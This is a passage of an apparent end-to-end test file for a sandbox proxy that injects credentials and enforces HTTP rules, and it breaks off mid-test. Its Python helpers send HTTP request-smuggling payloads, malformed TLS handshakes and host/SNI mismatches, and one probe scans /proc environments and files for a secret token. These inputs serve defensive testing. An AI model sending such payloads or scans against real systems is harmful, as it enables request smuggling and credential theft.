// Credentials outside the box: `agentbox run` holds the secrets and the
// sandbox never does. For a host with a secret or network.http_rules the
// supervisor's proxy terminates TLS with a per-run CA, adds the credential,
// enforces the L7 rules and git's push rules, and forwards over TLS it
// verifies itself.
//
// The upstreams are python3 servers on the host's 127.0.0.1 started by each
// test, named api.test, evil.test and git.test through the supervisor's
// /etc/hosts (RunWithHosts); their certificate comes from a test CA that
// agentbox trusts through SSL_CERT_FILE in its own environment. Nothing
// else is ever dialled.
#include <gtest/gtest.h>

#include <unistd.h>

#include <algorithm>
#include <cctype>
#include <cstdlib>
#include <iostream>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "harness.h"
#include "ladder_workloads.h"
#include "net_fixtures.h"

namespace agentbox::e2e {
namespace {

// ------------------------------------------------------------ host-side servers

// HTTP/1.1 with keep-alive; HTTPS when argv[2:] name a certificate and key.
// A request with `Authorization: Bearer <argv[1]>` gets 200 and a JSON echo
// of its method, path, Host and body size, any other 401. `GET /bulk?n=N`
// answers N bytes. Prints "REQ <method> <path> auth=<ok|bad|none>" before
// each answer leaves, "BAD <status> <why>" for a request it refuses while
// parsing it (a line too long, a malformed request line), "TLS-FAILED ..."
// for a handshake that failed.
const std::string kApiServer = R"PY(
import http.server, json, ssl, sys
token, tls = sys.argv[1], sys.argv[2:]
ctx = None
if tls:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(tls[0], tls[1])
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def serve(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        got = self.headers.get("Authorization")
        auth = "none" if got is None else ("ok" if got == "Bearer " + token else "bad")
        # Printed before the answer leaves: a client that has it finds the line.
        print("REQ %s %s auth=%s" % (self.command, self.path, auth), flush=True)
        if auth != "ok":
            return self.reply(401, {"error": "unauthorized", "auth": auth})
        path, _, query = self.path.partition("?")
        if path == "/bulk" and self.command == "GET":
            fields = dict(p.partition("=")[::2] for p in query.split("&"))
            return self.bulk(int(fields.get("n") or 0))
        self.reply(200, {"method": self.command, "path": self.path, "host": self.headers.get("Host"),
                         "auth": auth, "body_bytes": len(body)})
    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = serve
    def send_error(self, code, message=None, explain=None):
        print("BAD %d %s" % (code, message), flush=True)
        super().send_error(code, message, explain)
    def reply(self, status, obj):
        data = (json.dumps(obj, sort_keys=True) + "\n").encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    def bulk(self, n):
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        self.send_header("Content-Length", str(n))
        self.end_headers()
        chunk = bytes(range(256)) * 256
        while n > 0:
            self.wfile.write(chunk[:n])
            n -= min(n, len(chunk))
    def log_message(self, *args):
        pass
)PY" + std::string(kThreadingServerMain);

// ------------------------------------------------------------ clients run inside the sandbox

// GET argv[1] through $HTTPS_PROXY by hand: CONNECT, then TLS verified
// against the default trust (SSL_CERT_FILE). Prints "CONNECT <code>" and the
// proxy's answer when the tunnel is refused; else "PEER <sha256 of the
// certificate the client got> issuer=<CN>", then "STATUS <code>" and the
// whole response.
const char* const kConnectClient = R"PY(
import hashlib, os, socket, ssl, sys, urllib.parse
url = urllib.parse.urlsplit(sys.argv[1])
proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY") or os.environ["https_proxy"])
target = "%s:%d" % (url.hostname, url.port)
def rest(s):
    data = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                return data
            data += chunk
    except (OSError, ssl.SSLError):
        return data
s = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
head = b""
while b"\r\n\r\n" not in head:
    chunk = s.recv(1)  # byte by byte: nothing of the tunnel's own bytes is consumed here
    if not chunk:
        break
    head += chunk
code = head.split(b" ")[1].decode() if head.count(b" ") else "none"
if code != "200":
    s.settimeout(5)
    print("CONNECT", code)
    print((head + rest(s)).decode(errors="replace"))
    sys.exit(0)
t = ssl.create_default_context().wrap_socket(s, server_hostname=url.hostname)
issuer = dict(field[0] for field in t.getpeercert()["issuer"]).get("commonName")
print("PEER", hashlib.sha256(t.getpeercert(True)).hexdigest(), "issuer=%s" % issuer)
path = url.path + ("?" + url.query if url.query else "")
t.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, target)).encode())
data = rest(t)
print("STATUS", data.split(b" ", 2)[1].decode() if data.count(b" ") else "none")
print(data.decode(errors="replace"))
)PY";

// https.get over a CONNECT tunnel through $HTTPS_PROXY: Node does not use
// the proxy variables itself. The TLS is verified against Node's roots plus
// NODE_EXTRA_CA_CERTS, with the URL's host name as SNI. Prints
// "node <status> <body>".
const char* const kNodeClient = R"JS(
const http = require("http"), https = require("https"), tls = require("tls");
const proxy = new URL(process.env.HTTPS_PROXY || process.env.https_proxy);
const url = new URL(process.argv[2]);
const fail = (e) => {
  console.log("node error " + e.message);
  process.exit(1);
};
const connect = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: url.host,
                               headers: { host: url.host } });
connect.on("connect", (res, socket) => {
  if (res.statusCode !== 200) fail(new Error("CONNECT answered " + res.statusCode));
  const req = https.get({ host: url.hostname, port: url.port, path: url.pathname + url.search,
                          createConnection: () => tls.connect({ socket, servername: url.hostname }) }, (r) => {
    let body = "";
    r.on("data", (d) => (body += d));
    r.on("end", () => {
      console.log("node " + r.statusCode + " " + body.trim());
      process.exit(0);
    });
  });
  req.on("error", fail);
});
connect.on("error", fail);
connect.end();
)JS";

// Looks for the value argv[1] + argv[2] (given in two halves, so that no
// command line or script carries it whole) in every readable
// /proc/*/environ and /proc/*/cmdline and in every regular file below /tmp,
// $HOME, $TMPDIR, the working directory and /run. Prints "MATCH <where>"
// per find, then "SCANNED procs=<n> files=<n>".
const char* const kSecretProbe = R"PY(
import os, stat, sys
needle = (sys.argv[1] + sys.argv[2]).encode()
found, procs, files = [], 0, 0
def scan(path):
    try:
        with open(path, "rb") as f:
            data = f.read(64 << 20)
    except OSError:
        return False
    if needle in data:
        found.append(path)
    return True
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline"):
            procs += scan("/proc/%s/%s" % (pid, name))
for root in ("/tmp", os.environ.get("HOME"), os.environ.get("TMPDIR"), os.getcwd(), "/run"):
    if not root or not os.path.isdir(root):
        continue
    for top, dirs, names in os.walk(root):
        for name in names:
            path = os.path.join(top, name)
            try:
                regular = stat.S_ISREG(os.lstat(path).st_mode)
            except OSError:
                continue
            if regular:  # no FIFOs, devices or sockets: reading those could hang
                files += scan(path)
for path in found:
    print("MATCH", path)
print("SCANNED procs=%d files=%d" % (procs, files), flush=True)
)PY";

// Hostile input through the proxy to argv[1]:argv[2], one connection per
// case, all at once; then one well-formed request. Every connection is
// dialled on the main thread and only then handed to a thread of its own:
// inside the sandbox a connect() from another thread is refused today
// (src/linux/seccomp_notify.cc opens a pidfd for the caller's thread id,
// which fails for any thread but the leader), and that is not under test
// here. Prints
// "CASE <name> <what happened>": a status code, "closed <seconds>" / "open"
// for the cases that wait for the proxy to hang up (at most argv[3]
// seconds), or how the connection ended.
const char* const kHostileClient = R"PY(
import os, select, socket, ssl, sys, threading, time, urllib.parse
host, port, patience = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
target = "%s:%d" % (host, port)
proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY") or os.environ["https_proxy"])
lock = threading.Lock()
def say(name, *words):
    with lock:
        print("CASE", name, *words, flush=True)
def dial():
    return socket.create_connection((proxy.hostname, proxy.port), timeout=30)
def tunnel(s):
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)  # byte by byte: nothing of the tunnel's own bytes is consumed here
        if not chunk:
            raise ConnectionError("the proxy closed during CONNECT")
        head += chunk
    status = int(head.split(b" ")[1])
    if status != 200:
        raise ConnectionError("CONNECT answered %d" % status)
    return s
def verified(raw):
    return ssl.create_default_context().wrap_socket(tunnel(raw), server_hostname=host)
def unverified(raw, sni):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    return ctx.wrap_socket(tunnel(raw), server_hostname=sni)
def closed_after(s):
    # Seconds until the peer closes (EOF or reset; an alert may come first), or None.
    start = time.monotonic()
    s.settimeout(patience)
    try:
        while s.recv(4096):
            pass
    except socket.timeout:
        return None
    except OSError:
        pass
    return time.monotonic() - start
def status_of(s, data=b""):
    # The response's status code, or how the connection ended instead.
    s.settimeout(20)
    try:
        while b"\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                return "closed"
            data += chunk
    except socket.timeout:
        return "no-answer"
    except (ssl.SSLError, OSError) as e:
        return "reset(%s)" % type(e).__name__
    return data.split(b" ", 2)[1].decode()
def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=host)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()
def request(s, text):
    s.sendall(text.replace("\n", "\r\n").replace("TARGET", target).encode())
    return status_of(s)
def waits(name, raw, after_connect):
    s = tunnel(raw)
    after_connect(s)
    t = closed_after(s)
    say(name, "open" if t is None else "closed %.1f" % t)
def early(s):
    # What the peer has already answered, without waiting (None: nothing yet;
    # a readable socket may hold only TLS session tickets).
    if not (s.pending() or select.select([s], [], [], 0)[0]):
        return None
    s.setblocking(False)
    try:
        return s.recv(4096)
    except ssl.SSLWantReadError:
        return None
    finally:
        s.settimeout(10)
def big_header(raw):
    # 1 MiB of one header field, watching for the answer between pieces:
    # a proxy that answers early and closes must not turn it into a reset.
    s = verified(raw)
    s.settimeout(10)
    sent, got = 0, None
    try:
        s.sendall(("GET /repos/acme/x HTTP/1.1\r\nHost: %s\r\nX-Big: " % target).encode())
        while sent < 1 << 20 and got is None:
            s.sendall(b"a" * 16384)
            sent += 16384
            time.sleep(0.002)
            got = early(s)
        if got is None:
            s.sendall(b"\r\n\r\n")
    except (OSError, ssl.SSLError):
        pass
    say("big-header", status_of(s, got or b""), "sent=%d" % sent)
def sni_mismatch(raw):
    # TLS for evil.test inside a tunnel to api.test, not verified: only the proxy can refuse it.
    try:
        s = unverified(raw, "evil.test")
    except (OSError, ssl.SSLError) as e:
        return say("sni-mismatch", "tls-refused", type(e).__name__)
    try:
        say("sni-mismatch", request(s, "GET /repos/acme/x HTTP/1.1\nHost: evil.test:%d\n\n" % port))
    except (OSError, ssl.SSLError) as e:
        say("sni-mismatch", "reset", type(e).__name__)
def run(name, fn, raw):
    try:
        fn(raw)
    except Exception as e:
        say(name, "client-error", type(e).__name__, e)
cases = {
    "bad-hello": lambda raw: waits("bad-hello", raw, lambda s: s.sendall(b"\x16\x03\x01\x00\xc8" + os.urandom(200))),
    "stall-connect": lambda raw: waits("stall-connect", raw, lambda s: None),
    "stall-hello": lambda raw: waits("stall-hello", raw, lambda s: s.sendall(client_hello()[:40])),
    "big-header": big_header,
    "cl-te": lambda raw: say("cl-te", request(verified(raw),
        "POST /repos/acme/x/pulls HTTP/1.1\nHost: TARGET\nContent-Length: 6\nTransfer-Encoding: chunked\n\n0\n\nX")),
    "dup-cl": lambda raw: say("dup-cl", request(verified(raw),
        "POST /repos/acme/x/pulls HTTP/1.1\nHost: TARGET\nContent-Length: 3\nContent-Length: 5\n\nabcde")),
    "obs-fold": lambda raw: say("obs-fold", request(verified(raw),
        "GET /repos/acme/x HTTP/1.1\nHost: TARGET\nX-Folded: a\n b\n\n")),
    "host-mismatch": lambda raw: say("host-mismatch", request(verified(raw),
        "GET /repos/acme/x HTTP/1.1\nHost: evil.test:%d\n\n" % port)),
    "sni-mismatch": sni_mismatch,
}
threads = [threading.Thread(target=run, args=(name, fn, dial())) for name, fn in cases.items()]
for t in threads:
    t.start()
for t in threads:
    t.join()
run("control", lambda raw: say("control", request(verified(raw),
    "GET /repos/acme/control HTTP/1.1\nHost: TARGET\nConnection: close\n\n")), dial())
print("DONE", flush=True)
)PY";

// ------------------------------------------------------------ helpers

const char* const kHosts = "127.0.0.1 api.test evil.test git.test\n";
const char* const kDefaultApiRules = R"(["GET /repos/acme/**", "POST /repos/acme/*/pulls"])";
const char* const kCaVariables[] = {"SSL_CERT_FILE",    "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO",
                                    "CURL_CA_BUNDLE",   "CARGO_HTTP_CAINFO",  "PIP_CERT"};

// What a test changes in the policy of the contract.
struct Knobs {
  std::string api_from = "{ env: API_TOKEN }";  // credentials.secrets.api.from
  bool api_token_in_env = true;                 // API_TOKEN in agentbox's environment
  std::string api_rules = kDefaultApiRules;     // network.http_rules for api.test
  std::string more_http_rules;                  // further entries of network.http_rules (YAML lines)
};

// The lines of `text` that start with `prefix`.
std::vector<std::string> LinesWith(const std::string& text, const std::string& prefix) {
  std::vector<std::string> out;
  for (const auto& line : Lines(text)) {
    if (line.rfind(prefix, 0) == 0) out.push_back(line);
  }
  return out;
}

// The value on the first line of `text` that starts with "<key>=" ("" when
// none does): Field(out, "push-main") is "1" for a line "push-main=1".
std::string Field(const std::string& text, const std::string& key) {
  for (const auto& line : Lines(text)) {
    if (line.rfind(key + "=", 0) == 0) return line.substr(key.size() + 1);
  }
  return "";
}

// `text` cut at its lines "== NAME": NAME → the lines after it, up to the next such line.
std::map<std::string, std::string> Sections(const std::string& text) {
  std::map<std::string, std::string> out;
  std::string current;
  for (const auto& line : Lines(text)) {
    if (line.rfind("== ", 0) == 0) {
      current = line.substr(3);
    } else {
      out[current] += line + "\n";
    }
  }
  return out;
}

std::string Lower(std::string s) {
  std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) { return std::tolower(c); });
  return s;
}

// The report's member `key` (null when there is no report or no such member);
// const access to a missing member would be undefined.
nlohmann::json Member(const RunResult& r, const std::string& key) {
  return r.report && r.report->is_object() && r.report->contains(key) ? (*r.report)[key] : nlohmann::json();
}

// A string member of `j`, or "".
std::string Text(const nlohmann::json& j, const std::string& key) {
  return j.is_object() && j.contains(key) && j[key].is_string() ? j[key].get<std::string>() : "";
}

// The report's denials of `facet` and `op`.
std::vector<nlohmann::json> DenialsOf(const RunResult& r, const std::string& facet, const std::string& op) {
  std::vector<nlohmann::json> out;
  const nlohmann::json denials = Member(r, "denials");
  if (!denials.is_array()) return out;
  for (const auto& d : denials) {
    if (Text(d, "facet") == facet && Text(d, "op") == op) out.push_back(d);
  }
  return out;
}

// How many refusals `denials` stand for (a denial may carry a count).
int DenialCount(const std::vector<nlohmann::json>& denials) {
  int n = 0;
  for (const auto& d : denials) {
    n += d.is_object() && d.contains("count") && d["count"].is_number_integer() ? d["count"].get<int>() : 1;
  }
  return n;
}

bool SomeReasonHas(const std::vector<nlohmann::json>& denials, const std::string& needle) {
  return std::any_of(denials.begin(), denials.end(), [&](const nlohmann::json& d) {
    return Contains(Text(d, "reason"), needle);
  });
}

// The report's credentials.uses (empty when absent).
nlohmann::json Uses(const RunResult& r) {
  const nlohmann::json c = Member(r, "credentials");
  return c.is_object() && c.contains("uses") && c["uses"].is_array() ? c["uses"] : nlohmann::json::array();
}

// A use with every field of `want`.
bool HasUse(const RunResult& r, const nlohmann::json& want) {
  for (const auto& use : Uses(r)) {
    bool all = true;
    for (auto it = want.begin(); it != want.end(); ++it) {
      all = all && use.is_object() && use.contains(it.key()) && use[it.key()] == it.value();
    }
    if (all) return true;
  }
  return false;
}

// The first tool of `tools` that is not installed, or "".
std::string MissingTool(std::initializer_list<const char*> tools) {
  for (const char* t : tools) {
    if (FindTool(t).empty()) return t;
  }
  return "";
}

// ------------------------------------------------------------ the fixture

// A sandbox, the test CA, and the API server on api.test; the git server on
// git.test once StartGitServer() runs. Run() is `agentbox run` under the
// contract's policy with the test's names, the test CA trusted by agentbox
// and the secrets in agentbox's environment only.
class Credentials : public ::testing::Test {
 protected:
  void SetUp() override {
    if (std::string m = MissingTool({"python3", "openssl", "git", "curl"}); !m.empty()) {
      GTEST_SKIP() << "not applicable here: " << m << " is not installed";
    }
    sb_ = std::make_unique<Sandbox>();
    ca_ = std::make_unique<TestCa>(sb_->scratch());
    ASSERT_TRUE(ca_->ok) << ca_->log;
    token_ = "tok-" + RandomHex(16);
    git_password_ = "gitpw-" + RandomHex(16);
    api_ = std::make_unique<HostScript>(*sb_, "api_server.py", kApiServer,
                                        std::vector<std::string>{token_, ca_->server_pem, ca_->server_key});
    ASSERT_GT(api_->port(), 0) << api_->Output();
  }

  const Sandbox& sb() const { return *sb_; }
  std::string ApiTarget() const { return "api.test:" + std::to_string(api_->port()); }
  std::string ApiUrl(const std::string& path) const { return "https://" + ApiTarget() + path; }
  std::string GitUrl(const std::string& repo) const {
    return "https://git.test:" + std::to_string(git_port_) + "/" + repo;
  }
  std::string NetworkLog() const { return sb_->scratch() + "/net.jsonl"; }

  // What the API server saw so far: its "REQ ..." and "BAD ..." lines.
  std::vector<std::string> ApiRequests() {
    std::vector<std::string> seen;
    for (const auto& line : Lines(api_->Output("", 300))) {
      if (line.rfind("REQ ", 0) == 0 || line.rfind("BAD ", 0) == 0) seen.push_back(line);
    }
    return seen;
  }

  // Bare repositories acme/repo.git and other/repo.git (one commit on main
  // with README = `marker`, pushes accepted) behind the git server on
  // git.test: HTTPS with the test CA's certificate, basic auth agent:<password>.
  void StartGitServer(const std::string& marker) {
    git_root_ = sb_->scratch() + "/git";
    const std::string src = sb_->scratch() + "/git-src";
    MakeDirs(src);
    WriteFile(src + "/README", marker + "\n");
    ASSERT_EQ(sb_->Git({"init", "-q"}, src).status, 0);
    ASSERT_EQ(sb_->Git({"add", "README"}, src).status, 0);
    RunResult commit =
        sb_->Git({"-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-qm", "one"}, src);
    ASSERT_EQ(commit.status, 0) << commit.Describe();
    for (const char* repo : {"acme/repo.git", "other/repo.git"}) {
      const std::string bare = git_root_ + "/" + repo;
      ASSERT_EQ(sb_->Git({"clone", "-q", "--bare", src, bare}).status, 0);
      ASSERT_EQ(sb_->Git({"--git-dir=" + bare, "config", "http.receivepack", "true"}).status, 0);
    }
    git_ = std::make_unique<HostScript>(
        *sb_, "git_server.py", kGitServer,
        std::vector<std::string>{git_root_, "--tls", ca_->server_pem, ca_->server_key, "--basic", "agent",
                                 git_password_});
    ASSERT_GT(git_->port(), 0) << git_->Output();
    git_port_ = git_->port();
  }
  // `git show-ref` of a bare repository on the host: ref name → commit.
  std::map<std::string, std::string> Refs(const std::string& repo) {
    std::map<std::string, std::string> refs;
    RunResult r = sb_->Git({"--git-dir=" + git_root_ + "/" + repo, "show-ref"});
    for (const auto& line : Lines(r.out)) {
      auto sp = line.find(' ');
      if (sp != std::string::npos) refs[line.substr(sp + 1)] = line.substr(0, sp);
    }
    return refs;
  }

  std::string WritePolicy(const Knobs& k) const {
    // The remote names the server's real port, so nothing here depends on
    // whether a port wildcard ("git.test:*") is accepted.
    const std::string git_remote =
        git_port_ ? "https://git.test:" + std::to_string(git_port_) + "/acme/*" : "https://git.test/acme/*";
    const std::string path = sb_->scratch() + "/policy.yaml";
    WriteFile(path,
              "version: 1\n"
              "mode: workspace-write\n"
              "network:\n"
              "  allow: [\"api.test\", \"evil.test\", \"git.test\", \"127.0.0.1\"]\n"
              "  http_rules:\n"
              "    - host: api.test\n"
              "      allow: " + k.api_rules + "\n" +
                  k.more_http_rules +
                  "credentials:\n"
                  "  in_sandbox: none\n"
                  "  secrets:\n"
                  "    api:\n"
                  "      from: " + k.api_from + "\n"
                  "      hosts: [api.test]\n"
                  "      inject: { header: Authorization, format: \"Bearer {}\" }\n"
                  "      placeholder_env: API_TOKEN_PLACEHOLDER\n"
                  "    git:\n"
                  "      from: { env: GIT_PASSWORD }\n"
                  "      hosts: [git.test]\n"
                  "      inject: { basic: { username: agent } }\n"
                  "  git:\n"
                  "    remotes: [\"" + git_remote + "\"]\n"
                  "    push: { allow_refs: [\"refs/heads/agent/*\"], deny_force: true }\n");
    return path;
  }

  RunResult Run(const std::string& script, const Knobs& k = {}, int timeout_ms = 60000) {
    std::vector<std::string> env = {"SSL_CERT_FILE=" + ca_->ca_pem, "GIT_PASSWORD=" + git_password_};
    if (k.api_token_in_env) env.push_back("API_TOKEN=" + token_);
    unlink(NetworkLog().c_str());
    std::vector<std::string> options = {"--policy", WritePolicy(k), "--network-log", NetworkLog()};
    options.insert(options.end(), extra_options_.begin(), extra_options_.end());
    RunResult r = RunWithHosts(*sb_, kHosts, script, options, timeout_ms, env);
    report_text_ = ReadFile(sb_->report_path()).value_or("");
    return r;
  }

  // Neither the API token nor the git password is in what the run left
  // behind: its output, its report, its network log.
  void ExpectNoSecretIn(const RunResult& r) {
    const std::string log = ReadFile(NetworkLog()).value_or("");
    for (const std::string& secret : {token_, git_password_}) {
      EXPECT_FALSE(Contains(r.out, secret)) << r.Describe();
      EXPECT_FALSE(Contains(r.err, secret)) << r.Describe();
      EXPECT_FALSE(Contains(report_text_, secret)) << report_text_;
      EXPECT_FALSE(Contains(log, secret)) << log;
    }
  }

  std::vector<std::string> extra_options_;  // more `run` options (an --isolation)
  std::unique_ptr<Sandbox> sb_;
  std::unique_ptr<TestCa> ca_;
  std::unique_ptr<HostScript> api_, git_;
  std::string token_, git_password_, git_root_, report_text_;
  int git_port_ = 0;
};

// ------------------------------------------------------------ the token reaches the API, never the sandbox

TEST_F(Credentials, CurlGetsTheTokenAdded) {
  RunResult r = Run("curl -sS --max-time 20 " + ApiUrl("/repos/acme/x"));
  EXPECT_EQ(r.status, 0) << r.Describe() << api_->Output();
  EXPECT_TRUE(Contains(r.out, "\"auth\": \"ok\"")) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "\"path\": \"/repos/acme/x\"")) << r.Describe();
  EXPECT_EQ(OutcomeOf(r), "exited") << r.Describe();
  EXPECT_EQ(ApiRequests(), std::vector<std::string>{"REQ GET /repos/acme/x auth=ok"}) << api_->Output();
  EXPECT_TRUE(HasUse(r, {{"secret", "api"},
                         {"host", "api.test"},
                         {"method", "GET"},
                         {"path", "/repos/acme/x"},
                         {"decision", "allow"}}))
      << r.Describe();
  ExpectNoSecretIn(r);
}

TEST_F(Credentials, PythonUrllibGetsTheTokenAdded) {
  RunResult r = Run("python3 -c 'import sys, urllib.request; "
                    "sys.stdout.write(urllib.request.urlopen(sys.argv[1], timeout=20).read().decode())' " +
                    ApiUrl("/repos/acme/x"));
  EXPECT_EQ(r.status, 0) << r.Describe() << api_->Output();
  EXPECT_TRUE(Contains(r.out, "\"auth\": \"ok\"")) << r.Describe();
  EXPECT_EQ(ApiRequests(), std::vector<std::string>{"REQ GET /repos/acme/x auth=ok"}) << api_->Output();
  EXPECT_TRUE(HasUse(r, {{"secret", "api"}, {"host", "api.test"}, {"path", "/repos/acme/x"}, {"decision", "allow"}}))
      << r.Describe();
  ExpectNoSecretIn(r);
}

TEST_F(Credentials, NodeThroughAConnectTunnelGetsTheTokenAdded) {
  if (FindTool("node").empty()) GTEST_SKIP() << "not applicable here: node is not installed";
  WriteFile(sb().ws() + "/client.js", kNodeClient);
  RunResult r = Run("node client.js " + ApiUrl("/repos/acme/x"));
  EXPECT_EQ(r.status, 0) << r.Describe() << api_->Output();
  EXPECT_TRUE(Contains(r.out, "node 200 ")) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "\"auth\": \"ok\"")) << r.Describe();
  EXPECT_EQ(ApiRequests(), std::vector<std::string>{"REQ GET /repos/acme/x auth=ok"}) << api_->Output();
  ExpectNoSecretIn(r);
}

// The seven variables name one bundle, with certificates and no key; the
// certificate a client gets for api.test is not the upstream's (agentbox
// terminated the TLS) and verifies against that bundle alone.
TEST_F(Credentials, OneCaBundleNamedByEveryVariable) {
  WriteFile(sb().ws() + "/connect.py", kConnectClient);
  std::string script;
  for (const char* v : kCaVariables) script += "echo \"VAR " + std::string(v) + "=${" + v + "}\"; ";
  script += "echo \"CERTS $(grep -c 'BEGIN CERTIFICATE' \"$SSL_CERT_FILE\")\"; "
            "echo \"KEYS $(grep -c 'PRIVATE KEY' \"$SSL_CERT_FILE\")\"; "
            "python3 connect.py " + ApiUrl("/repos/acme/x");
  RunResult r = Run(script);
  EXPECT_EQ(r.status, 0) << r.Describe();
  const std::string bundle = Field(r.out, "VAR SSL_CERT_FILE");
  EXPECT_FALSE(bundle.empty()) << r.Describe();
  EXPECT_NE(bundle, ca_->ca_pem) << r.Describe();
  for (const char* v : kCaVariables) EXPECT_EQ(Field(r.out, std::string("VAR ") + v), bundle) << v << "\n" << r.Describe();
  auto certs = LinesWith(r.out, "CERTS ");
  ASSERT_EQ(certs.size(), 1u) << r.Describe();
  EXPECT_GE(std::atoi(certs[0].c_str() + 6), 1) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "KEYS 0\n")) << r.Describe();

  RunResult fp = sb().Host({Python(), "-c",
                            "import hashlib, ssl, sys; print(hashlib.sha256(ssl.PEM_cert_to_DER_cert("
                            "open(sys.argv[1]).read())).hexdigest())",
                            ca_->server_pem});
  ASSERT_EQ(fp.status, 0) << fp.Describe();
  ASSERT_FALSE(Lines(fp.out).empty()) << fp.Describe();
  const std::string upstream_cert = Lines(fp.out)[0];
  auto peer = LinesWith(r.out, "PEER ");
  ASSERT_EQ(peer.size(), 1u) << r.Describe();
  EXPECT_FALSE(Contains(peer[0], upstream_cert)) << "TLS to api.test was not terminated\n" << r.Describe();
  EXPECT_FALSE(Contains(peer[0], "issuer=agentbox test CA")) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "STATUS 200")) << r.Describe() << api_->Output();
  EXPECT_TRUE(Contains(r.out, "\"auth\": \"ok\"")) << r.Describe();
}

// Nothing inside holds the token: not an environment, a command line or a
// file, after it was used; `env` shows the placeholder instead. The same
// probe finds the placeholder in an environment, which shows it looks.
TEST_F(Credentials, TokenIsNowhereInsideTheSandbox) {
  WriteFile(sb().ws() + "/probe.py", kSecretProbe);
  const std::string half = token_.substr(0, token_.size() / 2), rest = token_.substr(token_.size() / 2);
  RunResult r = Run("curl -sS --max-time 20 " + ApiUrl("/repos/acme/x") + "; echo; env; "
                    "echo '== token'; python3 probe.py " + half + " " + rest + "; "
                    "echo '== placeholder'; python3 probe.py \"$API_TOKEN_PLACEHOLDER\" ''");
  EXPECT_EQ(r.status, 0) << r.Describe();
  EXPECT_TRUE(Contains(r.out, "\"auth\": \"ok\"")) << r.Describe() << api_->Output();  // the token was used
  auto sections = Sections(r.out);
  EXPECT_TRUE(LinesWith(sections["token"], "MATCH").empty()) << r.Describe();
  auto scanned = LinesWith(sections["token"], "SCANNED ");
  ASSERT_EQ(scanned.size(), 1u) << r.Describe();
  EXPECT_FALSE(Contains(scanned[0], "procs=0 ")) << r.Describe();
  EXPECT_FALSE(Contains(scanned[0], "files=0")) << r.Describe();
  const auto found = LinesWith(sections["placeholder"], "MATCH /proc/");
  EXPECT_TRUE(std::any_of(found.begin(), found.end(), [](const std::string& l) { return Contains(l, "/environ"); }))
      << r.Describe();
  const std::string placeholder = Field(r.out, "API_TOKEN_PLACEHOLDER");
  EXPECT_FALSE(placeholder.empty()) << r.Describe();
  EXPECT_NE(placeholder, token_);
  EXPECT_TRUE(Field(r.out, "API_TOKEN").empty()) << r.Describe();
  EXPECT_TRUE(Field(r.out, "GIT_PASSWORD").empty()) << r.Describe();
  ExpectNoSecretIn(r);
}

// The same in a microVM: the host's proxy ends TLS with the run's CA (the
// guest has its certificate only), adds the token at egress, and keeps to
// the http_rules; nothing in the guest holds the token.
TEST_F(Credentials, InAMicrovmTheTokenIsAddedAtEgressAndNeverInTheGuest) {
  if (!MicrovmLack().empty()) GTEST_SKIP() << "not applicable here: " << MicrovmLack();
  extra_options_ = {"--isolation", "microvm"};
  WriteFile(sb().ws() + "/probe.py", kSecretProbe);
  const std::string half = token_.substr(0, token_.size() / 2), rest = token_.substr(token_.size() / 2);
  RunResult r = Run("echo release=$(uname -r); curl -sS --max-time 60 " + ApiUrl("/repos/acme/x") + "; echo; "
                    "curl -sS --max-time 60 -o /dev/null -w 'other=%{http_code}\\n' " + ApiUrl("/repos/other/x") +
                    "; env; echo '== token'; python3 probe.py " + half + " " + rest,
                    {}, 240000);
  EXPECT_EQ(r.status, 0) << r.Describe() << api_->Output();
  EXPECT_TRUE(Contains(r.out, "release=" + GuestRelease() + "\n")) << "not the guest kernel: " << r.Describe();
  EXPECT_TRUE(Contains(r.out, "\"auth\": \"ok\"")) << r.Describe() << api_->Output();
  EXPECT_TRUE(Contains(r.out, "other=403")) << "http_rules did not refuse GET /repos/other/x: " << r.Describe();
  EXPECT_EQ(ApiRequests(), std::vector<std::string>{"REQ GET /repos/acme/x auth=ok"}) << api_->Output();
  EXPECT_TRUE(HasUse(r, {{"secret", "api"}, {"host", "api.test"}, {"method", "GET"}, {"path", "/repos/acme/x"},
                         {"decision", "allow"}}))
      << r.Describe();
  auto sections = Sections(r.out);
  EXPECT_TRUE(LinesWith(sections["token"], "MATCH").empty()) << r.Describe();
  EXPECT_EQ(LinesWith(sections["token"], "SCANNED ").size(), 1u) << r.Describe();
  EXPECT_FALSE(Field(r.out, "API_TOKEN_PLACEHOLDER").empty()) << r.Describe();
  ASSERT_TRUE(r.report.has_value()) << r.Describe();
